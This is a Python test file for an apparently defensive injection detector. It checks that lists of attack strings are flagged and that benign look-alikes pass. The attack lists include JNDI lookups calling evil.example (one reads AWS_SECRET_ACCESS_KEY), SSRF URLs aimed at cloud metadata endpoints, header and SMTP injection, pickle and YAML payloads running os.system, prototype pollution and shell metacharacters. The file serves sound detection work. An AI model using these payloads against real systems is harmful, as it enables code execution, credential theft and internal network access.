"""Each family told by one idiom is found in its disguises; what shares its words passes."""

from __future__ import annotations

import pytest

from sallygate.controls.injection.judges import deserialisation, lookups_crlf_prototypes, ssrf
from sallygate.controls.injection.pipeline.evidence import LIKELY, Evidence
from sallygate.controls.injection.pipeline.prefilter import Prefilter

MODULES = (lookups_crlf_prototypes, ssrf, deserialisation)
PREFILTER = Prefilter([module.JUDGE.triggers for module in MODULES])

ATTACKS: dict[str, tuple[str, ...]] = {
    "lookup": (
        "${jndi:ldap://evil.example/a}",
        "${JNDI:rmi://evil.example/a}",
        "x ${ jndi:dns://evil.example}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example}",
        "${${env:X:-j}ndi:ldap://evil.example}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${sys:user.home}",
        "${java:version}",
        "${script:javascript:1+1}",
        "${url:UTF-8:http://evil.example}",
        "${dns:evil.example}",
        "${upper:x${lower:y}}",
    ),
    "crlf": (
        "x\r\nSet-Cookie: a=b",
        "x\nLocation: http://evil.example",
        "x\r\n\tX-Evil: 1",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        "x\nTransfer-Encoding: chunked",
        "x\r\nHost: evil.example",
        "x\r\nGET /admin HTTP/1.1",
        "x\r\nHTTP/1.1 200 OK",
        "x\r\n\r\n<html>y",
        "x嘊嘍Set-Cookie:a=b",
    ),
    "mail": (
        "a@b.example\nBcc: c@d.example",
        "a@b.example\r\nCc:c@d.example",
        "x\r\nTo: c@d.example",
        "x@y.example\nSubject: y\n",
        "x\r\nRCPT TO:<c@d.example>",
        "x\r\nMAIL FROM:<c@d.example>",
        "x\r\nDATA\r\ny",
        "x\r\nQUIT\r\n",
        'x\r\na01 FETCH 1 BODY[]',
        "x\r\nV100 CAPABILITY",
        "x\r\nDELE 1\r\n",
        "x\r\nEHLO evil",
    ),
    "ssrf": (
        "http://169.254.169.254/",
        "http://169.254.169.254/latest/meta-data/iam/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://x@169.254.169.254/",
        "http://2852039166/",
        "http://[::ffff:169.254.169.254]/",
        "http://100.100.100.200/x",
        "/latest/meta-data/hostname",
        "http://127.0.0.1:8080/admin",
        "http://127.1/",
        "http://localhost:6379",
        "gopher://localhost:25/x",
        "http://10.0.0.5/",
        "https://192.168.1.1/x",
        "http://172.16.0.1/",
        "http://[::1]/",
        "http://0/",
        "http://0.0.0.0:22",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://127.0.0.1.nip.io/",
        "//localhost/x",
        "http://a@127.0.0.1/",
        "http://203.0.113.9/shell.txt",
        "http://evil.example/x.php?",
    ),
    "deserialisation": (
        "rO0ABXNyABFqYXZhLnV0aWwu",
        "aced00057372001164",
        'O:8:"Injector":1:{s:1:"a";s:1:"b";}',
        'a:1:{i:0;O:4:"Evil":0:{}}',
        "cos\nsystem\n(S'id'\ntR.",
        "cposix\nsystem\n",
        "!!python/object/apply:os.system ['id']",
        "!ruby/object:Gem::Installer",
        "!!javax.script.ScriptEngineManager []",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        '{"x":"_$$ND_FUNC$$_function(){}()"}',
        '{"$type": "System.Diagnostics.Process"}',
        "AAEAAAD/////AQAAAAAAAAA=",
        "BAhvOhNab",
    ),
    "prototype": (
        "__proto__",
        "a[__proto__][b]",
        "constructor.prototype.a",
        "constructor[prototype][a]",
        "x['constructor']['prototype']",
    ),
    "command": ("\x1b[2J", "\x1b]0;x\x07\x1b[2Kred", "\\033[31m", "%0a", "%0A%0d", "|nid\\n", ";x\n", "|| ", "&& ", "id;", "ls ; "),
    "probe": ("'\"", "';", "\"'><", "|;", "')", "'\"`;", "&&"),
    "scanner": ("http://abcd1234.oastify.com/x", "abcd1234.burpcollaborator.net", "abcd.interact.sh", "abcdef.dnslog.cn"),
}  # fmt: skip

HONEST = (
    "${GDPR}", "${USER_ID}", "${user.name}", "${a}${b}", "{{name}}", "[[id]]", "jndi", "a talk on JNDI: the basics", "ldap://dir.example/ou=x",
    "first line\nsecond line", "Dear all,\r\n\r\nthank you.\r\nBest, Jo", "Host: who was it", "the subject: x", "Hello,\nfrom: the team",
    "one\ntwo\nthree", "Notes:\n- data\n- quit smoking\n", "ingredients:\n\nflour: 200 g", "x\nNote: y", "To: me", "a\nuser friendly",
    "HTTP/1.1 200 OK", "GET /a HTTP/1.1", "https://a.example/", "https://a.example/x.php?id=1", "http://a.example/x.jpg",
    "https://a.example/latest/news", "https://a.example/10.0.0.1", "10.0.0.1", "192.168.1.1", "127.0.0.1", "169.254.1.1", "localhost",
    "https://203.0.113.9/a", "https://a.example:8443/b", "https://1.example/", "http://12345.example/", "https://a.example/?ip=10.0.0.1",
    "version 10.0.19045", "[1,2,3]", '{"type":"a"}', '{"@type":"Person","name":"Jo"}', '{"@context":"https://schema.org","@type":"Product"}',
    "a:1:b", "O:8", "s:1:\"a\"", "rO0", "rootless", "aced the test", "base64", "eyJhbGciOiJIUzI1NiJ9.e30.x", "!important", "!! wow", "!python",
    "the prototype", "prototype.js", "constructor", "constructor (n.)", "proto", "__init__", "__name__", "\u001b", "[31m", "R&D", "AT&T", "cat & dog",
    "it's", "\"quoted\"", "'quoted'", "O'Brien", "(a)", ":)", ";)", ":-(", "<3", "...", "?", "!", "--", "-", "*", "a;b", "a|b", "a&b", "C++", "C#",
    "50%", "$5", "#1", "@me", "5'11\"", "6\" x 4\"", "'90s", "rock 'n' roll", "me@a.example", "Jo <jo@a.example>", "a@oast.example", "interactive.shop",
    "https://a.example/a?b=c&d=e#f", "2024-01-01T00:00:00Z", "H2O", "CO2", "Fe2O3", "x = y", "x -> y", "a/b", "TypeError: a is not b\n    at c (d.js:1:2)",
    "java.lang.NullPointerException\n\tat a.B.c(B.java:1)", "body{margin:0}\np{color:red}", "<svg viewBox=\"0 0 1 1\"/>",
    "||", "| ", " | ", "|", "\\n", "\\r\\n", "%20", "100%0a", "a%0ab", "| one | two |\n", "id", "id; name", "id,name;", "ids;", "dir",
)  # fmt: skip


def judged(text: str) -> Evidence | None:
    hits = PREFILTER.hits(text)
    found = (module.JUDGE.judge(text, hits[number]) for number, module in enumerate(MODULES) if number in hits)
    return max(filter(None, found), key=lambda evidence: evidence.score, default=None)


def test_every_family_is_found() -> None:
    assert {family: len(texts) for family, texts in ATTACKS.items()} == {
        "lookup": 13, "crlf": 10, "mail": 12, "ssrf": 26, "deserialisation": 14, "prototype": 5, "command": 11, "probe": 7, "scanner": 4,
    }  # fmt: skip
    missed = [
        (family, text)
        for family, texts in ATTACKS.items()
        for text in texts
        if (found := judged(text)) is None or found.score < LIKELY or found.family != family
    ]
    assert missed == []


def test_what_shares_the_words_passes() -> None:
    assert len(HONEST) == 124
    assert {text: found for text in HONEST if (found := judged(text)) is not None and found.score >= LIKELY} == {}


@pytest.mark.parametrize(
    ("text", "rule", "span"),
    [
        ("a ${jndi:x}", "jndi", "${jndi:"),
        ("a\r\nSet-Cookie: b", "header", "\r\nSet-Cookie:"),
        ("a[__proto__]", "proto", "__proto__"),
        ("http://10.0.0.1/", "internal-address", "10.0.0.1"),
        ("'\"", "metacharacters", "'\""),
    ],
)
def test_spans_hold_what_was_found(text: str, rule: str, span: str) -> None:
    found = judged(text)
    assert found is not None
    assert (found.rule, text[found.start : found.end]) == (rule, span)


@pytest.mark.parametrize("shape", ["${", "${${", "${a", "${lower:", "jndi", "\n", "\r\n", "\nTo:", "\r\nx-a", "\nget ", "\na1 ", "\nuser a", "//", "//a", "http://", "http://a@", "http://1.", "http://[", "://0", "?", "127.0.0.1.", "o:1:\"a", "c", "cos\n", "!!", "\"@type\":", "constructor", "__", "\x1b[", "'", "' ", "\"'", "\x1e", "a.", "a-", "\ud800'"])  # fmt: skip
def test_hostile_shapes_of_a_whole_window_return(shape: str) -> None:
    text = (shape * 8192)[:8192]
    for module in MODULES:
        found = module.JUDGE.judge(text, list(range(len(module.JUDGE.triggers))))
        assert found is None or 0 <= found.start <= found.end <= len(text)
